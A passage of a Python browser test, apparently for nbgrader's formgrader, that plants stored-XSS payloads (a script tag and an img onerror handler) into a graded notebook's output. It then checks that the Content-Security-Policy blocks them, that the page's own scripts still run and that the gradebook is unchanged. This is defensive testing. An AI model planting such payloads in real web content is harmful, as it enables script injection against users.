        stdout=log,
        stderr=subprocess.STDOUT,
        stdin=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        wait_for_http(f"http://127.0.0.1:{port}/api/status?token={TOKEN}", timeout=90, proc=proc)
        url = f"http://127.0.0.1:{port}/formgrader/submissions/{sub_id}/?token={TOKEN}"
        for stage in ("inert", "planted"):
            if stage == "planted":  # as if the autograder had let a script through
                nb = nbformat.read(graded, as_version=4)
                cell = next(c for c in nb.cells if c.cell_type == "code" and c.get("outputs") is not None)
                cell.outputs.append(
                    nbformat.v4.new_output(
                        "display_data",
                        data={
                            "text/html": "<script>window.XSS_RAN='planted'</script>"
                            "<img src=x onerror=\"window.XSS_RAN='handler'\">",
                            "text/plain": "planted",
                        },
                    )
                )
                nbformat.write(nb, graded)
            before = digest()
            with offline_page() as (page, blocked):
                page.add_init_script(TRAP)
                response = page.goto(url)
                assert response.status == 200, response.status
                assert "script-src 'nonce-" in response.headers.get("content-security-policy", "")
                page.wait_for_selector("#notebook-container", timeout=60_000)
                page.wait_for_timeout(1500)
                ran = page.evaluate("window.__xss")
                template_ok = page.evaluate(
                    "typeof toggle_name === 'function' && typeof submission_id === 'string' "
                    "&& typeof window.jQuery === 'function'"
                )
                page.screenshot(path=str(ARTIFACTS / f"formgrader-hostile-{stage}.png"), full_page=False)
            assert ran == [], f"{stage}: scripts from the submission ran: {ran}"
            assert template_ok, f"{stage}: formgrader's own scripts did not run"
            assert digest() == before, f"{stage}: opening the submission changed the gradebook or config"
    finally:
        os.killpg(proc.pid, 15)
        proc.wait(timeout=30)
        log.close()
